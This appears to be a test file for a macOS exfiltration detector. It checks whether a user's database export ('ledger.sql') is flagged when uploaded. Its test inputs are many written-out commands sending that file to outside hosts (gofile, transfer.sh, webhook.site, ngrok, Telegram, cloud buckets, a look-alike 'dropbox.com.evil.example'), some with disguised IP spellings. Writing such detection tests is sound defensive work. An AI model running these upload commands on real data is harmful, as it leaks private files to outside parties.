import { describe, expect, it } from 'vitest';
import { Desk, OMAR } from '../../support/desk.ts';
import { MAC_PROGRAMS } from '../../support/mac-programs.ts';
import { PROGRAMS, type Program } from '../../support/story.ts';

const NAMED = {
  stage: 'upload',
  link: 'lineage',
  evidence: 'named-in-upload-command',
  files: ['/Users/lena/Documents/march/ledger.sql'],
};
const FILE = 'Documents/march/ledger.sql';
const FULL = `/Users/lena/${FILE}`;

interface Sent {
  readonly line: string;
  readonly program?: Program;
  readonly service: string | null;
  readonly destination: string | null;
  readonly rest?: Partial<Program>;
}

const MEGA_PUT = '/Applications/MEGAcmd.app/Contents/MacOS/mega-put';

function uploaded({
  line,
  program = PROGRAMS.curl,
  rest,
}: Pick<Sent, 'line' | 'program' | 'rest'>): Desk {
  const desk = new Desk();
  desk.dump(FILE);
  desk.type(program, line, rest);
  return desk;
}

describe('an upload command that names the export', () => {
  it.each<Sent>([
    {
      line: `curl -T ${FILE} https://wetransfer.com/up`,
      service: 'wetransfer',
      destination: 'wetransfer.com',
    },
    {
      line: `curl -sT${FILE} https://gofile.io:8443/x`,
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      line: `curl --upload-file ${FULL} https://user:pw@content.dropboxapi.com/2/files`,
      service: 'dropbox',
      destination: 'content.dropboxapi.com',
    },
    {
      line: `curl --upload-file=${FILE} https://transfer.sh/`,
      service: 'transfer-sh',
      destination: 'transfer.sh',
    },
    {
      line: `curl https://api.telegram.org/bot/sendDocument -F document=@${FILE}`,
      service: 'telegram',
      destination: 'api.telegram.org',
    },
    {
      line: `curl -F file=@${FILE};type=text/plain https://store1.gofile.io/uploadFile`,
      service: 'gofile',
      destination: 'store1.gofile.io',
    },
    { line: `curl -Ffile=@${FILE} https://0x0.st`, service: '0x0-st', destination: '0x0.st' },
    {
      line: `curl -d @${FILE} https://webhook.site/7`,
      service: 'webhook-site',
      destination: 'webhook.site',
    },
    {
      line: `curl -d@${FILE} https://abc.ngrok-free.app/`,
      service: 'ngrok',
      destination: 'abc.ngrok-free.app',
    },
    {
      line: `curl -X POST --data @${FULL} HTTPS://PASTE.EE./api`,
      service: 'pastebin',
      destination: 'paste.ee',
    },
    {
      line: `curl --data-binary @./${FILE} -H X:1 https://hooks.slack.com/x`,
      service: 'slack',
      destination: 'hooks.slack.com',
    },
    {
      line: `curl --data-binary=@${FILE} https://api.github.com/x`,
      service: 'github',
      destination: 'api.github.com',
    },
    {
      line: `curl -T Documents/march/{notes.txt,ledger.sql} https://gofile.io/u`,
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      line: `curl -F f=@Documents/march/notes.txt,${FILE};type=text/plain https://gofile.io/u`,
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      line: `curl --url-query q@${FILE} https://gofile.io/u`,
      service: 'gofile',
      destination: 'gofile.io',
    },
    {
      line: `curl -T ${FILE} https://files.unknown.example/in`,
      service: null,
      destination: 'files.unknown.example',
    },
    {
      line: `curl -T ${FILE} https://notdropbox.com/in`,
      service: null,
      destination: 'notdropbox.com',
    },
    {
      line: `curl -T ${FILE} https://dropbox.com.evil.example/in`,
      service: null,
      destination: 'dropbox.com.evil.example',
    },
    {
      line: `rclone copy ${FILE} onedrive:backup/x`,
      program: PROGRAMS.rclone,
      service: 'onedrive',
      destination: 'onedrive:backup/x',
    },
    {
      line: `rclone copyto ${FILE} gdrive:a.sql`,
      program: PROGRAMS.rclone,
      service: 'gdrive',
      destination: 'gdrive:a.sql',
    },
    {
      line: `rclone sync Documents/march mega:m -P`,
      program: PROGRAMS.rclone,
      service: 'mega',
      destination: 'mega:m',
    },
    {
      line: `rclone --config r.conf move ${FILE} box:`,
      program: PROGRAMS.rclone,
      service: 'box',
      destination: 'box:',
    },
    {
      line: `rclone moveto ${FILE} pcloud:x`,
      program: PROGRAMS.rclone,
      service: 'pcloud',
      destination: 'pcloud:x',
    },
    {
      line: `rclone copy ${FILE} work-backup:april`,
      program: PROGRAMS.rclone,
      service: null,
      destination: 'work-backup:april',
    },
    {
      line: `rclone copy ${FILE} my-dropbox:x`,
      program: PROGRAMS.rclone,
      service: null,
      destination: 'my-dropbox:x',
    },
    {
      line: `aws s3 cp ${FILE} s3://heap/l.sql --quiet`,
      program: PROGRAMS.aws,
      service: 's3',
      destination: 's3://heap/l.sql',
    },
    {
      line: `aws --profile x s3 sync Documents/march s3://heap/m`,
      program: PROGRAMS.aws,
      service: 's3',
      destination: 's3://heap/m',
    },
    {
      line: `gsutil -m cp ${FILE} gs://heap/l`,
      program: MAC_PROGRAMS.gsutil,
      service: 'gcs',
      destination: 'gs://heap/l',
    },
    {
      line: `azcopy copy ${FILE} https://acct.blob.core.windows.net/c?sig=s`,
      program: MAC_PROGRAMS.azcopy,
      service: 'azure-storage',
      destination: 'acct.blob.core.windows.net',
    },
    {
      line: `s5cmd cp ${FILE} s3://heap/z`,
      program: MAC_PROGRAMS.s5cmd,
      service: 's3',
      destination: 's3://heap/z',
    },
  ])('$line goes to $destination', ({ service, destination, ...sent }) => {
    expect(uploaded(sent).findings()).toMatchObject([{ ...NAMED, service, destination }]);
  });

  it.each<Sent>([
    {
      line: `python3 /opt/homebrew/bin/aws s3 cp ${FILE} s3://heap/p`,
      program: PROGRAMS.python,
      service: 's3',
      destination: 's3://heap/p',
    },
    {
      line: `bash ${MEGA_PUT} ${FILE} /in`,
      program: MAC_PROGRAMS.bash,
      rest: { script: MEGA_PUT },
      service: 'mega',
      destination: null,
    },
    {
      line: `bash ${MEGA_PUT} ${FILE}`,
      program: MAC_PROGRAMS.bash,
      service: 'mega',
      destination: null,
    },
    {
      line: `python -m azure.cli storage blob upload -f ${FILE} -c box --account-name acme`,
      program: PROGRAMS.python,
      service: 'azure-storage',
      destination: 'acme.blob.core.windows.net',
    },
    {
      line: `Python /usr/local/bin/gsutil cp ${FILE} gs://heap/q`,
      program: {
        ...PROGRAMS.python,
        path: '/Library/Frameworks/Python.framework/Versions/3.12/Resources/Python.app/Contents/MacOS/Python',
      },
      service: 'gcs',
      destination: 'gs://heap/q',
    },
  ])('is known when an interpreter runs the tool: $line', ({ service, destination, ...sent }) => {
    expect(uploaded(sent).findings()).toMatchObject([{ ...NAMED, service, destination }]);
  });

  it.each([
    ['a folder above it', 'rclone copy Documents mega:x', undefined],
    ['the working directory itself', 'rclone copy . mega:x', '/Users/lena/Documents/march'],
    [
      'a name relative to the working directory',
      'rclone copy ./ledger.sql mega:x',
      '/Users/lena/Documents/march',
    ],
    [
      'a path with dots in it',
      'rclone copy ../Documents/q1/../march/ledger.sql mega:x',
      '/Users/lena/Desktop',
    ],
    ['a folder with a slash at its end', 'rclone copy Documents/march/ mega:x', undefined],
    ['the root of all folders', 'rclone copy / mega:x', undefined],
    ['the root as the working directory', 'rclone copy . mega:x', '/'],
  ])('may name %s', (_, line, cwd) => {
    expect(
      uploaded({
        line,
        program: PROGRAMS.rclone,
        rest: cwd === undefined ? {} : { cwd },
      }).findings(),
    ).toMatchObject([NAMED]);
  });
});

describe('no upload of the export is', () => {
  it.each<{ title: string; line: string; program?: Program; rest?: Partial<Program> }>([
    { title: 'a download', line: `curl -o ${FILE} https://gofile.io/d` },
    {
      title: 'an upload of another file',
      line: 'curl -T Documents/march/other.sql https://gofile.io/u',
    },
    {
      title: 'an upload of a file whose name starts the same',
      line: `curl -T ${FILE}.sig https://gofile.io/u`,
    },
    {
      title: 'a range of names without it',
      line: 'curl -T Documents/march/ledger[1-9].sql https://gofile.io/u',
    },
    {
      title: 'a set of names that curl was told not to read as one',
      line: 'curl -g -T Documents/march/{ledger}.sql https://gofile.io/u',
    },
    { title: 'the file’s name as a query', line: `curl --url-query ${FILE} https://gofile.io/u` },
    { title: 'the file’s name as data', line: `curl -d ${FILE} https://gofile.io/u` },
    {
      title: 'a raw @ that curl does not read',
      line: `curl --data-raw @${FILE} https://gofile.io/u`,
    },
    { title: 'a form string with an @', line: `curl --form-string a=@${FILE} https://gofile.io/u` },
    { title: 'a form field without an @', line: `curl -F a=${FILE} https://gofile.io/u` },
    { title: 'the file’s name in a header', line: `curl -H @${FILE} https://gofile.io/u` },
    { title: 'an upload to this Mac', line: `curl -T ${FILE} http://127.0.0.1:9000/x` },
    { title: 'an upload without a destination', line: `curl -T ${FILE}` },
    { title: 'a listing', line: 'rclone ls dropbox:', program: PROGRAMS.rclone },
    {
      title: 'an rclone download over it',
      line: `rclone copyto dropbox:x ${FILE}`,
      program: PROGRAMS.rclone,
    },
    {
      title: 'an rclone copy between local folders',
      line: 'rclone copy Documents/march /Volumes/STICK',
      program: PROGRAMS.rclone,
    },
    {
      title: 'an rclone copy between remotes',
      line: 'rclone copy dropbox:ledger.sql box:x',
      program: PROGRAMS.rclone,
    },
    { title: 'an rclone check', line: `rclone check ${FILE} dropbox:x`, program: PROGRAMS.rclone },
    { title: 'a bucket listing', line: 'aws s3 ls s3://heap', program: PROGRAMS.aws },
    {
      title: 'a bucket download',
      line: 'aws s3 cp s3://heap/x Documents/march/ledger.sql',
      program: PROGRAMS.aws,
    },
    {
      title: 'a folder whose name starts the same',
      line: 'rclone copy Documents/mar mega:x',
      program: PROGRAMS.rclone,
    },
    {
      title: 'another folder below the root',
      line: 'rclone copy /Volumes mega:x',
      program: PROGRAMS.rclone,
    },
    {
      title: 'another working directory',
      line: 'rclone copy . mega:x',
      program: PROGRAMS.rclone,
      rest: { cwd: '/opt' },
    },
    {
      title: 'a relative name in another working directory',
      line: 'rclone copy march/ledger.sql mega:x',
      program: PROGRAMS.rclone,
    },
    {
      title: 'a program that is no upload tool',
      line: `month-end ${FILE} https://gofile.io`,
      program: MAC_PROGRAMS.script,
    },
    {
      title: 'an unknown Go binary signed a.out',
      line: `sendit copy ${FILE} mega:x`,
      program: { path: '/usr/local/bin/sendit', signingId: 'a.out' },
    },
    {
      title: 'an interpreter with a script of its own',
      line: `python3 tidy.py aws s3 cp ${FILE} s3://heap/x`,
      program: PROGRAMS.python,
    },
    {
      title: 'a Python module that is no upload tool',
      line: `python3 -m json.tool ${FILE}`,
      program: PROGRAMS.python,
    },
    {
      title: 'a shell command text that only mentions the tool',
      line: `bash -c true`,
      program: MAC_PROGRAMS.bash,
    },
  ])('$title', ({ line, program, rest }) => {
    const sent = { line, ...(program && { program }), ...(rest && { rest }) };
    expect(uploaded(sent).findings()).toMatchObject([
      { stage: 'export', evidence: null, service: null },
    ]);
  });

  it('a command that macOS denied', () => {
    const desk = new Desk();
    desk.dump(FILE);
    desk.story.exec(
      desk.story.fork(desk.shell),
      desk.program(PROGRAMS.rclone, `rclone copy ${FILE} mega:x`),
      true,
    );
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });

  it('an upload before the export existed', () => {
    const desk = new Desk();
    desk.type(PROGRAMS.rclone, `rclone copy ${FILE} mega:x`);
    desk.dump(FILE);
    expect(desk.findings()).toMatchObject([{ stage: 'export' }]);
  });
});

it('an upload by another user of the file is still an upload of the chain', () => {
  const desk = new Desk();
  desk.dump('Desktop/x.sql');
  desk.story.run(desk.story.shell(OMAR), {
    ...PROGRAMS.rclone,
    args: ['rclone', 'copy', desk.at('Desktop/x.sql'), 'mega:x'],
  });
  expect(desk.findings()).toMatchObject([{ user: 'lena', stage: 'upload' }]);
});

it('one command with exports of two chains is an upload of both', () => {
  const desk = new Desk();
  desk.dump('Desktop/x.sql');
  desk.story.write(desk.type(PROGRAMS.psql, 'psql'), desk.at('Desktop/y.csv'));
  desk.type(PROGRAMS.rclone, 'rclone copy Desktop mega:x');
  expect(desk.findings()).toMatchObject([
    { stage: 'upload', files: [desk.at('Desktop/x.sql')] },
    { stage: 'upload', files: [desk.at('Desktop/y.csv')] },
  ]);
});

it('a host that the organisation has named leads to its service', () => {
  const desk = uploaded({ line: `curl -T ${FILE} https://eu.files.example.net/x` });
  expect(
    desk.findings({ cloud: { domains: { add: { 'files.example.net': 'box' } } } }),
  ).toMatchObject([{ service: 'box', destination: 'eu.files.example.net' }]);
});

describe('the address of a server in the command', () => {
  it.each([
    ['https://162.125.1.14/in', 'dropbox', '162.125.1.14'],
    ['https://[2620:100:6022:14::a27d:4b0e]/in', 'dropbox', '2620:100:6022:14::a27d:4b0e'],
    ['http://0xA27D010E:8080/in', 'dropbox', '162.125.1.14'],
    ['162.125.270', 'dropbox', '162.125.1.14'],
    ['https://203.0.113.20/in', 'box', '203.0.113.20'],
    ['https://17.248.3.4/in', null, '17.248.3.4'],
    ['https://104.16.1.1/in', null, '104.16.1.1'],
    ['https://198.51.100.7/in', null, '198.51.100.7'],
  ])('%s leads to %s', (url, service, destination) => {
    const desk = new Desk();
    desk.story.resolver('upload.box.com', '203.0.113.20');
    desk.dump(FILE);
    desk.type(PROGRAMS.curl, `curl -T ${FILE} ${url}`);
    expect(desk.findings()).toMatchObject([{ ...NAMED, service, destination }]);
  });

  it('leads to the service of a name that resolved to it in the last day, and not longer', () => {
    const desk = new Desk();
    desk.story.resolver('upload.box.com', '203.0.113.20').wait(25 * 3600);
    desk.dump(FILE);
    desk.type(PROGRAMS.curl, `curl -T ${FILE} https://203.0.113.20/in`);
    expect(desk.findings()).toMatchObject([{ ...NAMED, service: null }]);
  });

  it('is this Mac in any spelling of it', () => {
    for (const host of ['2130706433', '0x7f.1', '017700000001', '127.1', '[::ffff:127.0.0.1]'])
      expect(uploaded({ line: `curl -T ${FILE} http://${host}:9000/` }).findings()).toMatchObject([
        { stage: 'export' },
      ]);
  });
});

describe('further ways to say it, of which keys inside an inline remote are left out', () => {
  it.each<Sent>([
    { line: `curl -sSfT ${FILE} https://gofile.io`, service: 'gofile', destination: 'gofile.io' },
    {
      line: `curl transfer.sh/l.sql -T ${FILE}`,
      service: 'transfer-sh',
      destination: 'transfer.sh',
    },
    {
      line: `curl -T ${FILE} --url https://wetransfer.com/x`,
      service: 'wetransfer',
      destination: 'wetransfer.com',
    },
    {
      line: `curl --json @${FILE} https://discord.com/api`,
      service: 'discord',
      destination: 'discord.com',
    },
    {
      line: `curl --form doc=@${FILE} https://slack.com/api`,
      service: 'slack',
      destination: 'slack.com',
    },
    {
      line: `wget --post-file=${FILE} https://webhook.site/1`,
      program: { path: '/opt/homebrew/bin/wget', signingId: 'wget' },
      service: 'webhook-site',
      destination: 'webhook.site',
    },
    {
      line: `http --form POST https://file.io f@${FILE}`,
      program: PROGRAMS.python,
      rest: { path: '/opt/homebrew/bin/http' },
      service: 'file-io',
      destination: 'file.io',
    },
    {
      line: `rclone copy ${FILE} :s3,provider=AWS:heap/x`,
      program: PROGRAMS.rclone,
      service: 's3',
      destination: ':s3:heap/x',
    },
    {
      line: `aws --endpoint-url https://id.r2.cloudflarestorage.com s3 cp ${FILE} s3://heap/x`,
      program: PROGRAMS.aws,
      service: 'cloudflare-r2',
      destination: 's3://heap/x',
    },
    {
      line: `scp -P 22 ${FILE} lena@files.example:in/`,
      program: { path: '/usr/bin/scp', signingId: 'com.apple.scp', platform: true },
      service: null,
      destination: 'lena@files.example:in/',
    },
    {
      line: `b2 file upload heap ${FILE} l.sql`,
      program: PROGRAMS.python,
      rest: { path: '/opt/homebrew/bin/b2' },
      service: 'backblaze',
      destination: 'b2://heap',
    },
  ])('$line', ({ service, destination, ...sent }) => {
    expect(uploaded(sent).findings()).toMatchObject([{ ...NAMED, service, destination }]);
  });

  it.each([
    `python3 -Im azure.cli storage blob upload -f ${FILE} -c box --account-name acme`,
    `python3 -I -m azure.cli storage blob upload -f ${FILE} -c box --account-name acme`,
    `python3 -u -m azure.cli storage blob upload --file ${FILE} -c box --account-name acme`,
    `python3 -O /opt/homebrew/bin/az storage blob upload --file ${FILE} -c box --account-name acme`,
    `python3 -W ignore -B -m azure.cli storage blob upload --file=${FILE} -c box --account-name acme`,
  ])('with options of the interpreter, joined or separate: %s', (line) => {
    expect(uploaded({ line, program: PROGRAMS.python }).findings()).toMatchObject([
      { ...NAMED, service: 'azure-storage', destination: 'acme.blob.core.windows.net' },
    ]);
  });
});

it('a folder in which the session keeps more than a thousand files of its own is an upload of the export', () => {
  const desk = new Desk();
  const dbeaver = desk.launch(PROGRAMS.dbeaver);
  for (let index = 0; index < 1100; index += 1)
    desk.story.write(dbeaver, desk.at(`Library/DBeaverData/workspace6/${index}.xml`));
  desk.story.write(dbeaver, desk.at('Desktop/x.csv'));
  desk.type(PROGRAMS.rclone, 'rclone copy /Users/lena mega:x');
  expect(desk.findings()).toMatchObject([{ stage: 'upload', files: [desk.at('Desktop/x.csv')] }]);
});

it('a folder with files of lineage and of time is one upload by the higher row', () => {
  const desk = new Desk();
  const psql = desk.type(PROGRAMS.psql, 'psql');
  desk.story.write(psql, desk.at('Documents/own.csv'));
  desk.story.write(desk.background(MAC_PROGRAMS.script), desk.at('Documents/other.csv'));
  desk.type(PROGRAMS.rclone, 'rclone sync Documents box:x');
  expect(desk.stages()).toEqual(['tool', 'export', 'upload']);
  expect(desk.findings()).toMatchObject([
    { link: 'lineage', severity: 'high', confidence: 'high' },
  ]);
});

describe('an upload tool under another name', () => {
  it('is known by the signature that it kept', () => {
    const desk = new Desk();
    desk.dump('Documents/a.sql');
    const program = { ...PROGRAMS.curl, path: '/Users/lena/c' };
    desk.type(program, 'c -T Documents/a.sql https://gofile.io/');
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', evidence: 'named-in-upload-command', service: 'gofile' },
    ]);
  });
});

describe('a command with several transfers', () => {
  it.each([
    'curl -T Pictures/a.jpg https://files.example.net/ -T Documents/a.sql https://gofile.io/up',
    'curl -T Pictures/a.jpg --url https://files.example.net/ -T Documents/a.sql --url https://gofile.io/up',
    'curl -T Pictures/a.jpg https://files.example.net/ --next -d @Documents/a.sql https://gofile.io/up',
    'curl -T Pictures/a.jpg https://files.example.net/ -: -F f=@Documents/a.sql https://gofile.io/up',
    'curl -o Pictures/a.jpg https://files.example.net/ --next -sT Documents/a.sql https://gofile.io/up',
    'curl -d @Documents/a.sql https://files.example.net/ https://gofile.io/up',
    'curl -F f=@Documents/a.sql --url https://files.example.net/ https://gofile.io/up',
    'curl -T Pictures/a.jpg https://files.example.net/ -T b.jpg https://gofile.io/up -F f=@Documents/a.sql',
  ])('sends the export where its own says: %s', (line) => {
    const desk = new Desk();
    desk.dump('Documents/a.sql');
    desk.type(PROGRAMS.curl, line);
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', severity: 'critical', service: 'gofile', destination: 'gofile.io' },
    ]);
  });

  it('is an upload of each export to its own place', () => {
    const desk = new Desk();
    const psql = desk.type(PROGRAMS.psql, 'psql');
    desk.story.write(psql, desk.at('Documents/a.csv'));
    desk.type(
      PROGRAMS.curl,
      'curl -T Documents/a.csv https://files.example.net/ -T Pictures/b.jpg https://gofile.io/up',
    );
    expect(desk.findings()).toMatchObject([
      { stage: 'upload', severity: 'high', destination: 'files.example.net' },
    ]);
  });

  it('is sent from inside a session to the first place', () => {
    const desk = new Desk();
    const psql = desk.type(PROGRAMS.psql, 'psql');
    desk.story.write(psql, desk.at('Documents/a.csv'));
    const child = desk.story.fork(psql);
    desk.story.exec(child, {
      ...PROGRAMS.curl,
      args: ['curl', '-T', desk.at('Documents/a.csv'), 'https://gofile.io/up'],
    });
    expect(desk.findings()).toMatchObject([
      { evidence: 'piped-to-uploader', destination: 'gofile.io' },
    ]);
  });
});

describe('a name with wildcards', () => {
  const GCS = { service: 'gcs', destination: 'gs://drop/' };
  it.each([
    ['gsutil cp Documents/march/*.sql gs://drop/', true],
    ['gsutil cp Documents/mar*/ledger.??l gs://drop/', true],
    ['gsutil cp -r Documents/m* gs://drop/', true],
    ['gsutil cp /Users/lena/Documents/**.sql gs://drop/', true],
    ['gsutil cp Documents/march/*.csv gs://drop/', false],
    ['gsutil cp Documents/*.sql gs://drop/', false],
    ['gsutil cp Documents/*/*/*.sql gs://drop/', false],
  ])('that the tool itself looks for: %s', (line, isUpload) => {
    const program = { path: '/opt/homebrew/bin/gsutil', signingId: null };
    expect(uploaded({ line, program }).findings()).toMatchObject([
      isUpload ? { ...NAMED, ...GCS } : { stage: 'export', evidence: null },
    ]);
  });

  it('is a plain name for a tool that looks for none', () => {
    expect(
      uploaded({ line: 'curl -T Documents/march/* https://gofile.io/u' }).findings(),
    ).toMatchObject([{ stage: 'export', evidence: null }]);
  });
});
